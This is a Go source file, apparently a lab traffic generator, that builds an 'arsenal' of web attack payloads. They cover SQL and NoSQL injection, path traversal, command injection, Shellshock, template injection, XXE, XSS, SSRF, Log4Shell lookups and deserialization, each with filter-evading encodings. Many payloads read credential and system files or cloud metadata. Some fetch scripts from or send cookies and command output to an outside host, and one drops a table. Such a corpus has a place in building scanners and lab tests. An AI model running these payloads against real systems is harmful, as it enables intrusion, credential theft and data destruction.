package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"unicode/utf16"
)

// weapon is one kind of attack: where it is put, and what with. Each payload goes to each place, written in a way that
// changes from one to the next, so that all ways occur at all places.
type weapon struct {
	name, kind string
	places     []place
	payloads   []string
	spellings  []func(string) string // other ways to write a payload that mean the same to the target
	after      request               // what the attacker looks at when he has done, if anything
}

// place is where in a request a payload goes, with the ways in which it can be written there.
type place func(payload string, way int) request

// Ways to write a text in a query or form.
var percents = []func(string) string{
	url.QueryEscape,
	func(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") },
	everyByte,
	func(s string) string {
		return strings.NewReplacer("%", "%25", " ", "+", "&", "%26", "#", "%23", "+", "%2B", "\n", "%0a", "\r", "%0d", "\x00", "%00", ";", "%3b", "\"", "%22", "<", "%3c", ">", "%3e", "\\", "%5c").Replace(s)
	},
}

func everyByte(s string) string { return "%" + percentPairs(s) }

func percentPairs(s string) string {
	pairs := make([]string, len(s))
	for i := range len(s) {
		pairs[i] = fmt.Sprintf("%02X", s[i])
	}
	return strings.Join(pairs, "%")
}

// way is one of the ways.
func way(ways []func(string) string, n int) func(string) string { return ways[n%len(ways)] }

func inQuery(prefix string) place {
	return func(payload string, n int) request { return request{target: prefix + way(percents, n)(payload)} }
}

const form = "application/x-www-form-urlencoded"

// inForm puts it in a form, every third time in one of several parts.
func inForm(target, prefix, name string) place {
	return func(payload string, n int) request {
		if n%3 == 2 {
			var b strings.Builder
			for _, pair := range strings.Split(strings.TrimSuffix(prefix, "&"), "&") {
				if key, value, ok := strings.Cut(pair, "="); ok {
					b.WriteString(part(key, "", "", value))
				}
			}
			return multipart(target, b.String()+part(name, "", "", payload))
		}
		return request{method: http.MethodPost, target: target, kind: form, body: prefix + name + "=" + way(percents, n)(payload)}
	}
}

const boundary = "----labFormBoundary7MA4YWxkTrZu0gW"

func part(name, file, kind, text string) string {
	disposition := fmt.Sprintf("Content-Disposition: form-data; name=%q", name)
	if file != "" {
		disposition += fmt.Sprintf("; filename=%q\r\nContent-Type: %s", file, kind)
	}
	return "--" + boundary + "\r\n" + disposition + "\r\n\r\n" + text + "\r\n"
}

func multipart(target, parts string) request {
	return request{method: http.MethodPost, target: target, kind: "multipart/form-data; boundary=" + boundary, body: parts + "--" + boundary + "--\r\n"}
}

// Ways to write a text in JSON.
var jsonStrings = []func(string) string{
	func(s string) string { b, _ := json.Marshal(s); return string(b) },
	func(s string) string {
		return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\r", `\r`, "\t", `\t`, "\x00", `\u0000`).Replace(s) + `"`
	},
	func(s string) string {
		var b strings.Builder
		for _, u := range utf16.Encode([]rune(s)) {
			fmt.Fprintf(&b, `\u%04x`, u)
		}
		return `"` + b.String() + `"`
	},
}

func inJSON(target, before, after string) place {
	return func(payload string, n int) request {
		return request{method: http.MethodPost, target: target, kind: "application/json", body: before + way(jsonStrings, n)(payload) + after}
	}
}

func inPath(prefix string) place {
	return func(payload string, n int) request {
		if n%2 == 1 {
			return request{target: prefix + everyByte(payload)}
		}
		return request{target: prefix + url.PathEscape(payload)}
	}
}

func inHeader(target, name string) place {
	return func(payload string, _ int) request {
		return request{target: target, headers: [][2]string{{name, strings.NewReplacer("\r", "", "\n", " ").Replace(payload)}}}
	}
}

func inCookie(target, name string) place {
	return func(payload string, _ int) request {
		return request{target: target, headers: [][2]string{{"Cookie", "theme=dark; " + name + "=" + strings.NewReplacer(";", "%3b", "\r", "", "\n", " ", ",", "%2c").Replace(payload)}}}
	}
}

// inBase64 puts a JSON text in base64 into a parameter.
func inBase64(prefix, member string) place {
	return func(payload string, n int) request {
		doc, _ := json.Marshal(map[string]string{member: payload})
		if n%2 == 1 {
			return request{target: prefix + base64.RawURLEncoding.EncodeToString(doc)}
		}
		return request{target: prefix + url.QueryEscape(base64.StdEncoding.EncodeToString(doc))}
	}
}

func inGraphQL(before, after string) place {
	return func(payload string, n int) request {
		text, _ := json.Marshal(payload)
		query, _ := json.Marshal(before + string(text) + after)
		return request{method: http.MethodPost, target: "/graphql", kind: "application/json", body: `{"query":` + string(query) + `,"variables":{}}`}
	}
}

// inXML puts a text into an element, or, if it is a document, sends it as it is.
func inXML(target, before, after string) place {
	return func(payload string, n int) request {
		if !strings.HasPrefix(payload, "<?xml") {
			ways := []func(string) string{
				func(s string) string { return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s) },
				func(s string) string { return "<![CDATA[" + s + "]]>" },
				func(s string) string {
					return strings.NewReplacer("&", "&#38;", "<", "&#60;", "'", "&#x27;", " ", "&#32;").Replace(s)
				},
			}
			payload = before + way(ways, n)(payload) + after
		}
		return request{method: http.MethodPost, target: target, kind: []string{"application/xml", "text/xml; charset=utf-8"}[n%2], body: payload}
	}
}

func plain(s string) string { return s }

func mixedCase(s string) string {
	b := []byte(s)
	for i := range b {
		if c := b[i]; i%2 == 0 && c >= 'a' && c <= 'z' {
			b[i] -= 'a' - 'A'
		} else if i%2 == 1 && c >= 'A' && c <= 'Z' {
			b[i] += 'a' - 'A'
		}
	}
	return string(b)
}

// spacing writes something else for spaces.
func spacing(by string) func(string) string {
	return func(s string) string { return strings.ReplaceAll(s, " ", by) }
}

// arsenal are all hand-written attacks.
func arsenal() []weapon {
	return []weapon{
		{name: "SQL in texts", kind: "sqli",
			places: []place{inQuery("/search?q="), inJSON("/api/items", `{"filter":`, `,"limit":20}`), inForm("/orders", "page=1&", "name"), inBase64("/reports?data=", "id"), inGraphQL("{ item(name: ", ") { name price } }"),
				inXML("/api/order", "<order><customer>7</customer><sku>", "</sku><note>by noon</note></order>"), inCookie("/", "visitor"), inHeader("/visits", "X-Forwarded-For")},
			payloads: []string{"'", "lamp' OR '1'='1", "zz' OR 1=1-- -", "lamp' AND '1'='2", "zz' UNION SELECT name, password, card FROM users-- -", "zz' UNION SELECT name, password FROM users-- -", "zz') UNION SELECT name, password FROM users-- -",
				"zz' UNION SELECT password FROM users-- -", "zz' UNION SELECT 1,sqlite_version(),3-- ", "zz' AND extractvalue(1,concat(0x7e,(SELECT password FROM users LIMIT 1)))-- -", "zz' OR sleep(5)-- -", "lamp'||(SELECT sleep(4))||'",
				"zz' OR (SELECT count(*) FROM users)>2-- -", "x'; DROP TABLE products; --", "zz' UNION SELECT concat(0x716b6b71,md5(4711),0x71787a71),2,3#", "lamp' AND substr((SELECT password FROM users LIMIT 1),1,1)='5'-- -", "lamp'/**/AND/**/1=1/**/AND/**/'a'='a"},
			spellings: []func(string) string{plain, spacing("/**/"), mixedCase, spacing("\t"), plain}},
		{name: "SQL in numbers", kind: "sqli",
			places:    []place{inQuery("/item?id="), inPath("/items/"), inQuery("/item?lang=en&id=")},
			payloads:  []string{"1 AND 1=1", "1 AND 1=2", "1 OR 1=1", "-1 UNION SELECT id,name,password FROM users", "-1 UNION SELECT 1,2,card FROM users WHERE id=1-- -", "1 AND (SELECT sleep(5))=0", "(SELECT CASE WHEN (SELECT count(*) FROM users)=3 THEN 1 ELSE 0 END)", "1;SELECT pg_sleep(6)", "1'", "1 ORDER BY 9", "1 ORDER BY 2", "2-1", "0x31 OR 2>1", "1)) UNION SELECT name,password FROM users-- -", "-1) UNION SELECT name,password FROM users-- -", "1 RLIKE sleep(3)", "1 AND 5=(SELECT length(name) FROM users LIMIT 1)", "1 procedure analyse()"},
			spellings: []func(string) string{plain, mixedCase, spacing("/*x*/"), spacing("\n")}},
		{name: "SQL in names", kind: "sqli",
			places:   []place{inQuery("/export?format=csv&column="), inJSON("/api/items", `{"filter":"lamp","sort":`, `}`)},
			payloads: []string{"(SELECT group_concat(name||':'||password) FROM users)", "name, (SELECT card FROM users LIMIT 1) AS x", "1,(SELECT sleep(5))", "nosuchcolumn", "(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='5' THEN name ELSE price END)", "note FROM products UNION SELECT 1,password FROM users--"}},
		{name: "SQL at the log-in", kind: "sqli",
			places:   []place{inForm("/login", "password=x&", "user"), inForm("/login", "user=admin&", "password")},
			payloads: []string{"admin'--", "admin' #", "' OR '1'='1", "' OR 1=1-- -", "' or ''='", "') OR ('1'='1", "admin'/*", "' UNION SELECT 'admin','admin'-- -", "\" OR \"\"=\"", "' OR role='admin'-- -", "admin' AND 1=0-- -"}},

		{name: "files", kind: "lfi",
			places:   []place{inQuery("/download?file="), inQuery("/page?name="), inJSON("/api/file", `{"path":`, `}`), inBase64("/images?src=", "file")},
			payloads: []string{"../../../../etc/passwd", "/etc/passwd", "../../../../../../../../etc/shadow", "....//....//etc/passwd", "../config.php", "../../../../proc/self/environ", "../../../../root/.ssh/id_rsa", "../.env", "../../../../etc/hosts", "..\\..\\..\\..\\etc\\passwd", "../../../../etc/passwd\x00.html", "./../files/../../../../etc/issue", "php://filter/convert.base64-encode/resource=config", "php://filter/convert.base64-encode/resource=index.php", "../../../log/nginx/access.log", "../../../../nonexistent/file", "file:///etc/passwd", "../../../../var/www/shop/.git/config"}},
		{name: "files in the path", kind: "lfi",
			places:   []place{func(p string, _ int) request { return request{target: "/static/" + p} }},
			payloads: []string{"..%2f..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252f..%252f..%252fetc%252fpasswd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "../../../../etc/passwd", "..%2f.env", "..%252fconfig.php", "docs/..%2f..%2f..%2f..%2f..%2fetc%2fhosts", "..%c0%af..%c0%afetc/passwd", "%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow", "..;/..;/etc/passwd"}},
		{name: "files of Windows", kind: "lfi",
			places:   []place{inQuery("/logs?file=")},
			payloads: []string{`..\..\windows\win.ini`, `..\..\boot.ini`, "../../windows/win.ini", `C:\windows\win.ini`, `..\..\windows\system32\drivers\etc\hosts`, `\windows\win.ini`}},
		{name: "files left lying", kind: "exposed",
			places:   []place{func(p string, _ int) request { return request{target: p} }},
			payloads: []string{"/.env", "/.git/HEAD", "/.git/config", "/.htpasswd", "/backup.sql", "/WEB-INF/web.xml", "/server-status", "/actuator/env", "/phpinfo.php", "/.env.bak", "/.aws/credentials", "/id_rsa", "/.svn/entries", "/wp-config.php.bak", "/config.json.old", "/.DS_Store"}},

		{name: "commands", kind: "rce",
			places:   []place{inQuery("/ping?addr="), inQuery("/backup?name=")},
			payloads: []string{";id", "127.0.0.1;id", "127.0.0.1 && id", "127.0.0.1|id", "127.0.0.1 | cat /etc/passwd", "$(id)", "`id`", "127.0.0.1%0aid", "127.0.0.1\nid", "127.0.0.1;cat${IFS}/etc/passwd", "127.0.0.1;ls -la", "127.0.0.1;uname -a", "127.0.0.1;env", "127.0.0.1;sleep 5", "127.0.0.1 & sleep 6 &", "127.0.0.1;ping -c 6 127.0.0.1", "127.0.0.1;echo $((4711*3))", "127.0.0.1;whoami", "127.0.0.1;i''d", "127.0.0.1;/bin/c?t /etc/pass?d", "127.0.0.1;curl http://203.0.113.66/x.sh", "127.0.0.1||wget http://203.0.113.66/a -O /tmp/a", "127.0.0.1;echo aWQ=|base64 -d|sh", "127.0.0.1;head -1 /etc/passwd", "127.0.0.1;printf 'LAB%s' 4711", "127.0.0.1;ps aux", "; nosuchcommand", "127.0.0.1;{id,-u}", "127.0.0.1;a=i;b=d;$a$b", "127.0.0.1;rev<<<'di'"}},
		{name: "commands in quotes", kind: "rce",
			places:   []place{inForm("/convert", "to=png&", "name")},
			payloads: []string{"a';id;'", "a'|id|'", "a' && cat /etc/passwd && '", "a'$(id)'", "a';sleep 5;'", "a'\nid\n'", "a;id", "a';echo $((35+24));'", "a'; ls -l / ;'", "a';uname -a #", "$(sleep 5)"}},
		{name: "commands in JSON", kind: "rce",
			places:   []place{inJSON("/api/dns", `{"name":`, `}`)},
			payloads: []string{"a.example\";id;\"", "$(id)", "`cat /etc/passwd`", "a.example\" && uname -a && \"", "x$(sleep 5)", "x$(curl http://203.0.113.66/?d=$(whoami))", "a.example;id", "$(expr 4711 + 1)", "a\"|cat /etc/passwd #"}},
		{name: "commands of Windows", kind: "rce",
			places:   []place{inQuery("/winping?host=")},
			payloads: []string{"127.0.0.1 & dir", "127.0.0.1&ipconfig /all", "127.0.0.1 | ver", "127.0.0.1&&whoami", `127.0.0.1&type c:\windows\win.ini`, "127.0.0.1&set /a 7331*11", "127.0.0.1&net user", "127.0.0.1&ping -n 7 127.0.0.1", "127.0.0.1&timeout /t 6", "127.0.0.1&nosuch"}},
		{name: "Shellshock", kind: "rce",
			places:   []place{inHeader("/cgi-bin/status", "User-Agent"), inHeader("/cgi-bin/status", "Referer")},
			payloads: []string{"() { :; }; id", "() { :;}; echo; /bin/cat /etc/passwd", "() { ignored; }; echo LAB$((4000+711))", "() { :; }; sleep 5"}},

		{name: "templates", kind: "ssti",
			places:   []place{inQuery("/greet?name="), inForm("/greet", "lang=en&", "name")},
			payloads: []string{"{{7*7}}", "{{1337*1337}}", "{{7*'7'}}", "{{config}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{{cycler.__init__.__globals__.os.popen('cat /etc/passwd').read()}}", "{{ 31337 - 20000 }}", "${7*7}", "{{request.application.__globals__.os.popen(\"uname -a\").read()}}"}},
		{name: "templates in JSON", kind: "ssti",
			places:   []place{inJSON("/mail/preview", `{"to":"customer","text":`, `}`)},
			payloads: []string{"${7*7}", "${1234*4321}", "#{7*7}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "${9999+12345}", "{{7*7}}"}},
		{name: "templates in the path", kind: "ssti",
			places:   []place{inPath("/hello/")},
			payloads: []string{"<%= 7*7 %>", "<%= 1111*3333 %>", "<%= `id` %>", "<%= system('id') %>", "<%= File.read('/etc/passwd') %>", "<%= 98765+4321 %>"}},
		{name: "templates in a long page", kind: "ssti",
			places:   []place{inForm("/banner", "size=2&", "text")},
			payloads: []string{"${7*7}", "*{7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "${4711*4711}", "*{12345+54321}"}},

		{name: "entities", kind: "xxe",
			places:   []place{inXML("/api/order", "", ""), inXML("/soap", "", ""), inXML("/feed", "", "")},
			payloads: xxe("file:///etc/passwd", "file:///etc/hosts", "http://203.0.113.66/x.dtd", "http://169.254.169.254/latest/meta-data/", "file:///c:/windows/win.ini", "file:///etc/nonexistent")},

		{name: "scripts", kind: "xss",
			places:   []place{inQuery("/profile?color=red&name="), inForm("/profile", "color=blue&", "name")},
			payloads: []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(document.domain)>", "<svg/onload=alert`1`>", "<body onpageshow=alert(1)>", "<details open ontoggle=confirm(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<ScRiPt>prompt(1)</sCrIpT>", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "<math><mtext></mtext><img src onerror=alert(1)></math>", "<form action=javascript:alert(1)><input type=submit>", "<script src=//203.0.113.66/x.js></script>", "<b>bold</b>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<input autofocus onfocus=alert(1)>", "<object data=\"data:text/html,<script>alert(1)</script>\">"}},
		{name: "scripts in attributes", kind: "xss",
			places:   []place{inQuery("/profile?name=Ann&color=")},
			payloads: []string{"\" onmouseover=alert(1) x=\"", "\"><script>alert(1)</script>", "\" autofocus onfocus=alert(1) tabindex=1 x=\"", "' onclick=alert(1) '", "\" style=animation-name:x onanimationstart=alert(1) \"", "red\"onpointerenter=\"alert(1)"}},
		{name: "scripts in scripts", kind: "xss",
			places:   []place{inQuery("/widget?name=")},
			payloads: []string{"';alert(1)//", "'-alert(1)-'", "</script><script>alert(1)</script>", "\\';alert(1)//", "'+fetch('//203.0.113.66/'+document.cookie)+'", "\";alert(1)//"}},
		{name: "scripts past a filter", kind: "xss",
			places:   []place{inQuery("/error?code=404&msg=")},
			payloads: []string{"<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)</script>", "<img src=1 onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>"}},
		{name: "scripts that stay", kind: "xss-stored", after: request{target: "/comments"},
			places:   []place{inForm("/comments", "rating=5&", "text"), inJSON("/comments", `{"rating":1,"text":`, `}`)},
			payloads: []string{"<script>new Image().src='//203.0.113.66/?c='+document.cookie</script>", "Nice! <img src=x onerror=alert(1)>", "<svg onload=fetch('//203.0.113.66')>", "<a href=\"javascript:alert(1)\">more</a>", "<b>really</b> good"}},
		{name: "scripts in JSON", kind: "xss",
			places:   []place{inQuery("/api/echo?text=")},
			payloads: []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>"}},

		{name: "redirects", kind: "redirect",
			places:   []place{inQuery("/go?url=")},
			payloads: []string{"http://evil.example/", "//evil.example", "https://evil.example/login", "/\\evil.example", "https:evil.example", "http://login.example.com.evil.example/", "http://login.example.com@evil.example/", "///evil.example", "javascript:alert(1)", "https://evil.example/?x=login.example.com"}},
		{name: "header lines", kind: "crlf",
			places:   []place{inQuery("/lang?set=")},
			payloads: []string{"en\r\nSet-Cookie: admin=1", "en\r\nX-Injected: lab", "en\nLocation: http://evil.example/", "en\r\n\r\n<script>alert(1)</script>", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "en%0d%0aX-Two: 1"}},
		{name: "requests of the server", kind: "ssrf",
			places:   []place{inQuery("/fetch?url="), inQuery("/thumb?src="), inJSON("/api/import", `{"format":"csv","url":`, `}`)},
			payloads: []string{"http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "http://127.0.0.1/server-status", "http://localhost:8500/v1/agent/self", "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/latest/user-data", "http://127.0.0.1:22/", "http://[::ffff:169.254.169.254]/latest/meta-data/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO", "http://admin.internal/", "http://10.2.0.5:9200/", "http://203.0.113.66/callback", "http://0177.0.0.1/", "dict://127.0.0.1:11211/stats"}},
		{name: "look-ups", kind: "jndi",
			places:   []place{inHeader("/", "User-Agent"), inQuery("/search?q="), inHeader("/api/echo?text=hi", "X-Api-Version"), inForm("/signin", "password=x&", "user"), inHeader("/", "Referer")},
			payloads: []string{"${jndi:ldap://203.0.113.66/a}", "${jndi:ldap://203.0.113.66:1389/Exploit}", "${${lower:j}ndi:${lower:l}dap://203.0.113.66/b}", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.66/c}", "${jndi:dns://lab.evil.example/x}", "${${env:NOTHING:-j}ndi:ldap://203.0.113.66/d}"}},

		{name: "operators in JSON", kind: "nosqli",
			places: []place{func(p string, _ int) request {
				return request{method: http.MethodPost, target: "/api/login", kind: "application/json", body: p}
			}},
			payloads: []string{`{"name":{"$ne":null},"password":{"$ne":null}}`, `{"name":"admin","password":{"$gt":""}}`, `{"name":"admin","password":{"$regex":"^l"}}`, `{"name":"admin","password":{"$regex":"^z"}}`, `{"name":{"$in":["admin","root"]},"password":{"$exists":true}}`, `{"$where":"return true"}`, `{"$or":[{"name":"admin"},{"name":"x"}]}`, `{"name":"admin' || '1'=='1","password":"x"}`, `{"name":{"$nin":[]},"password":{"$ne":"x"}}`}},
		{name: "operators in parameters", kind: "nosqli",
			places:   []place{func(p string, _ int) request { return request{target: "/api/users?" + p} }},
			payloads: []string{"role[$ne]=x", "name[$regex]=.*", "password[$gt]=", "name=admin&password[$regex]=^l", "role%5B%24ne%5D=nobody", "$where=this.name!=1", "$where=sleep(5000)", "name[$nin]=x"}},
		{name: "filters", kind: "ldapi",
			places:   []place{inQuery("/people?name=")},
			payloads: []string{"*", "a*", "*)(objectClass=*", "admin)(|(password=*", "*)(uid=*))(|(uid=*", "admin)(&)", "x)(cn=*"}},
		{name: "the schema of GraphQL", kind: "graphql",
			places: []place{func(p string, n int) request {
				query, _ := json.Marshal(p)
				if n%3 == 2 {
					return request{target: "/graphql?query=" + url.QueryEscape(p)}
				}
				return request{method: http.MethodPost, target: "/graphql", kind: "application/json", body: `{"query":` + string(query) + `}`}
			}},
			payloads: []string{"{ __schema { types { name fields { name } } } }", "query IntrospectionQuery { __schema { queryType { name } types { kind name } } }", "{ __type(name: \"User\") { fields { name } } }", "query { __schema{types{name}} users { name } }"}},
		{name: "objects", kind: "deserialization",
			places: []place{inCookie("/prefs", "prefs"), func(p string, _ int) request {
				return request{target: "/prefs", headers: [][2]string{{"Cookie", "prefs=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(p)))}}}
			}},
			payloads: []string{"cos\nsystem\n(S'id'\ntR.", "cposix\nsystem\n(S'cat /etc/passwd'\ntR.", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", "O:18:\"Monolog\\Handler\\Sys\":1:{s:3:\"cmd\";s:2:\"id\";}", "cos\nsystem\n(S'sleep 5'\ntR."}},
	}
}

// xxe are documents with an entity that is read from somewhere.
func xxe(from ...string) (all []string) {
	for i, f := range from {
		doctype := fmt.Sprintf("<!DOCTYPE order [<!ENTITY ext SYSTEM %q>]>", f)
		if i%3 == 1 {
			doctype = fmt.Sprintf("<!DOCTYPE d [\n  <!ELEMENT d ANY >\n  <!ENTITY ext PUBLIC \"-//LAB\" %q >\n]>", f)
		}
		all = append(all, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"+doctype+"\n<order><article>&ext;</article><sku>lamp</sku><note>&ext;</note></order>")
		if i < 2 {
			all = append(all, fmt.Sprintf("<?xml version=\"1.0\"?><order xmlns:xi=\"http://www.w3.org/2001/XInclude\"><sku>lamp</sku><article><xi:include parse=\"text\" href=%q/></article><note><xi:include parse=\"text\" href=%q/></note></order>", f, f),
				fmt.Sprintf("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY %% p SYSTEM %q> %%p;]><order><note>x</note></order>", f))
		}
	}
	return all
}
